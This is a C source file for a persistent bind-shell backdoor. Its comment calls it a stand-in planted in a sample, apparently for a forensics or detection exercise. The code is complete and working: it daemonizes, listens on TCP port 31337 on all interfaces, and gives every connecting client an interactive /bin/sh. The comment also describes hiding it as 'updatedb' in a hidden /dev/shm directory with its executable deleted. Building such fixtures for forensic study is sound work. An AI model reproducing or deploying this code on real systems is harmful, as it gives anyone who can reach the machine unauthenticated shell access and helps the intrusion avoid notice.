/* backdoor.c: bind-shell stand-in planted in the sample, started from
 * /dev/shm/.x/updatedb and unlinked after start (its executable shows as
 * deleted). Listens on TCP 0.0.0.0:31337 and waits in accept(); a client
 * would get "/bin/sh" (never happens in the sample). */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void)
{
	struct sockaddr_in a;
	int s, c, one = 1, fd;

	if (fork() > 0)
		_exit(0);
	setsid();
	if (chdir("/") != 0)
		_exit(1);
	fd = open("/dev/null", O_RDWR);
	dup2(fd, 0);
	dup2(fd, 1);
	dup2(fd, 2);
	memset(&a, 0, sizeof(a));
	a.sin_family = AF_INET;
	a.sin_port = htons(31337);
	s = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(s, (struct sockaddr *)&a, sizeof(a)) || listen(s, 4))
		return 1;
	for (;;) {
		c = accept(s, NULL, NULL);
		if (c < 0)
			continue;
		if (fork() == 0) {
			dup2(c, 0);
			dup2(c, 1);
			dup2(c, 2);
			execl("/bin/sh", "sh", "-i", (char *)NULL);
			_exit(1);
		}
		close(c);
	}
}
